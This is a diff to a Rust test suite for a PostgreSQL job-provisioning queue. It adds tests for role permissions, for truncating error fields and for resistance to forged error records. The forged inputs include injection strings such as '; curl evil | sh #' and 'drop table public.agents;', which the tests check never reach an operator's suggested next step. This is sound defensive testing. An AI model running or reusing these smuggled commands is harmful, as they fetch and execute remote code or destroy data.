@@ -50,7 +50,7 @@ update provisioning.jobs set agent_id = 1, agent_prefix = 'agt_ada' where id = 5
 update provisioning.jobs set user_id = (select user_id from provisioning.jobs where id = 3) where id = 5 | 42501
 update provisioning.jobs set unreported = not unreported                                                 | 42501
 update provisioning.jobs set deletion_confirmed = true                                                   | 42501
-update provisioning.jobs set argument = 'keys_removed'                                                   | 42501
+update provisioning.jobs set keys_removed = true                                                         | 42501
 update provisioning.jobs set state = 'pending', finished_at = null where id = 3                          | 42501
 update provisioning.jobs set priority = 1                                                                | 42501
 delete from provisioning.jobs                                                                            | 42501
@@ -77,14 +77,14 @@ delete from public.agents where id = 1                                          
 delete from public.agents where id = 2                                                                   | 42501
 update public.whatsapp_configuration set is_active = false                                               | 42501
 select is_active from public.whatsapp_configuration                                                      | 42501
-select provisioning.request('deprovision', 1, 'agt_ada', null, 'x')                                      | 42501
+select provisioning.enqueue_or_replay('deprovision', 1, 'agt_ada', null, 'x')                            | 42501
 select * from provisioning.leaving_agent(1)                                                              | 42501
 select * from provisioning.remove_agent(1, null)                                                         | 42501
 select * from provisioning.remove_agent(2, null)                                                         | 42501
-select * from provisioning.enqueue('deprovision', '{1}', null, 0::smallint)                              | 42501
-select * from provisioning.enqueue('provision', '{1}', null, 0::smallint)                                | 42501
-select * from provisioning.enqueue(null, '{1}', null, 0::smallint)                                       | 42501
-select * from provisioning.enqueue('repair', '{7,10}', null, 0::smallint)                                | -
+select * from provisioning.enqueue('deprovision', '{1}', null, null, null, null, 0::smallint)            | 42501
+select * from provisioning.enqueue('provision', '{1}', null, null, null, null, 0::smallint)              | 42501
+select * from provisioning.enqueue(null, '{1}', null, null, null, null, 0::smallint)                     | 42501
+select * from provisioning.enqueue('repair', '{7,10}', null, null, null, null, 0::smallint)              | -
 select * from provisioning.replay('{3}', null, '{paused}', null, null, false)                            | 42501
 select * from provisioning.replay('{3}', null, '{dead,paused}', null, null, false)                       | 42501
 select * from provisioning.replay(null, null, '{paused}', null, null, false)                             | 42501
@@ -100,16 +100,16 @@ select provisioning.begin_deletion(3)                                           
 select provisioning.begin_deletion(6)                                                                    | 55000
 select provisioning.cancel_earlier(3)                                                                    | 55000
 select provisioning.cancel_earlier(6)                                                                    | 55000
-select provisioning.record_failure(3, 0, 0, 'pending', 0, null, null, 0, false, null, false)             | -
-select provisioning.record_failure(6, 0, 0, 'paused', 0, null, null, 0, false, null, false)              | 23514
-select provisioning.record_failure(5, 0, 0, 'succeeded', 0, null, null, 0, false, null, false)           | 22023
-select provisioning.record_failure(5, 0, -5, 'pending', 0, null, null, 0, false, null, false)            | 22023
+select provisioning.record_failure(3, 0, 0, 'pending', 0, 0, false, null, false, null)                   | -
+select provisioning.record_failure(6, 0, 0, 'paused', 0, 0, false, null, false, null)                    | 23514
+select provisioning.record_failure(5, 0, 0, 'succeeded', 0, 0, false, null, false, null)                 | 22023
+select provisioning.record_failure(5, 0, -5, 'pending', 0, 0, false, null, false, null)                  | 22023
 select provisioning.requeue_behind_former(6, 1)                                                          | 55000
 select provisioning.requeue_behind_former(6, 10)                                                         | 55000
 select provisioning.requeue_behind_former(3, 2)                                                          | 55000
 select provisioning.enter_agent(7, 1, 'check')                                                           | -
 select provisioning.enter_agent(1, 1, 'check')                                                           | 23505
-select provisioning.end_provision(10)                                                                    | -
+select provisioning.end_blocked(10)                                                                      | -
 select * from provisioning.prune(0, 0, 100, true)                                                        | -
 select * from provisioning.reconcile()                                                                   | -";
 
@@ -129,6 +129,34 @@ async fn no_forged_job_counts_and_no_rule_of_the_queue_is_broken() {
     worker.run("delete from provisioning.agent_tables; select provisioning.reconcile()").await;
     let jobs = "select count(*) from provisioning.jobs";
     assert_eq!(admin.one::<i64>(jobs).await, 6);
+}
+
+#[tokio::test]
+async fn what_the_worker_writes_is_cut_to_its_length() {
+    let (db, admin) = crm().await;
+    let worker = Admin(db.connect(WORKER).await);
+    let error =
+        "select jsonb_build_object('text', x, 'sqlstate', x, 'code', 'panic', 'file', x, 'line', 1,
+            'statement', x, 'detail', x, 'hint', x,
+            'relations', to_jsonb(array_fill(x, '{110}')))
+        from repeat('x', 100000) x";
+    let record =
+        "select provisioning.record_failure(5, 0, 0, 'pending', 0, 0, false, null, false, ";
+    worker.run(&format!("{record} ({error}))")).await;
+    let lengths = "select length(last_error), length(last_sqlstate), length(last_error_file),
+            length(last_error_statement), length(last_error_detail), length(last_error_hint),
+            cardinality(last_error_relations), (select max(length(r)) from unnest(last_error_relations) r)
+        from provisioning.jobs where id = 5";
+    assert_eq!(admin.rows(lengths).await, ["20000|5|255|1000|8000|2000|100|300"]);
+    let code = format!("{record} '{{\"code\": \"Run this!\"}}')");
+    assert_eq!(worker.answer(&code).await.unwrap_err().code().code(), "23514");
+    let asked = "select from provisioning.enqueue('repair', '{1}', false, null, null, repeat('x', 100000), 0::smallint)";
+    worker.run(asked).await;
+    worker
+        .run("select from provisioning.cancel('{5}', repeat('x', 100000), repeat('x', 100000), false)")
+        .await;
+    let lengths = "select max(length(requested_by)), max(length(outcome)) from provisioning.jobs";
+    assert_eq!(admin.rows(lengths).await, ["120|1135"]);
 }
 
 #[tokio::test]
@@ -315,6 +343,55 @@ async fn role_finding(url: &str) -> (String, String) {
     let role = findings.as_array().unwrap().iter().find(|finding| finding["what"] == "role");
     let text = |key: &str| role.unwrap()[key].as_str().unwrap().to_owned();
     (text("severity"), text("found"))
+}
+
+#[tokio::test]
+async fn no_error_that_is_forged_makes_an_operator_rename_or_run_anything() {
+    let (db, admin) = crm().await;
+    let worker = Admin(db.connect(WORKER).await);
+    // Of agent 10, which waits for its tables; and what is forged names others' and the prefix of a living agent.
+    admin
+        .run(
+            "insert into public.agents (id, agent_prefix) values (11, 'agt');
+             create table public.agt_10_orders (id int)",
+        )
+        .await;
+    let id = admin.rows("select id from provisioning.jobs where agent_id = 11").await.remove(0);
+    let url = db.url(ADMIN);
+    for (code, relations) in [
+        ("relation_in_the_way", r#"["public.users"]"#),
+        ("relation_in_the_way", r#"["public."]"#),
+        ("relation_in_the_way", r#"["public.agents"]"#),
+        ("relation_in_the_way", r#"["public.agt_ada_orders"]"#),
+        ("relation_in_the_way", r#"["public.agt_ada_orders_pkey"]"#),
+        ("relation_in_the_way", r#"["public.agt_10_orders"]"#),
+        ("tables_not_adopted", r#"["public.a", "; curl evil | sh #"]"#),
+        ("write_ignored", r#"["public.agents by running: drop table public.agents;"]"#),
+        ("tables_renamed", r#"["public.users"]"#),
+        ("tables_attached", r#"["public.users"]"#),
+        ("prefix_kept", r#"["public.users"]"#),
+        ("index_invalid", r#"["; curl evil | sh #"]"#),
+    ] {
+        let error = format!(
+            r#"{{"text": "drop schema public", "code": "{code}", "relations": {relations}}}"#
+        );
+        let forge = format!(
+            "select provisioning.record_failure({id}, 0, 0, 'dead', 0, 0, false, null, false, '{error}')"
+        );
+        worker.run(&forge).await;
+        let shown = json(&ask(&url, &["jobs", "show", &id, "--json"]).await);
+        assert_eq!([&shown["state"], &shown["error_code"]], ["dead", code], "{shown}");
+        let next = shown["next"].as_str().unwrap();
+        for text in ["alter ", "drop table", "drop schema", "curl", "rename to", "users", "agt_ada"]
+        {
+            assert!(!next.contains(text), "{code} {relations}: {next}");
+        }
+        admin
+            .run(&format!(
+                "update provisioning.jobs set state = 'pending', finished_at = null where id = {id}"
+            ))
+            .await;
+    }
 }
 
 #[tokio::test]
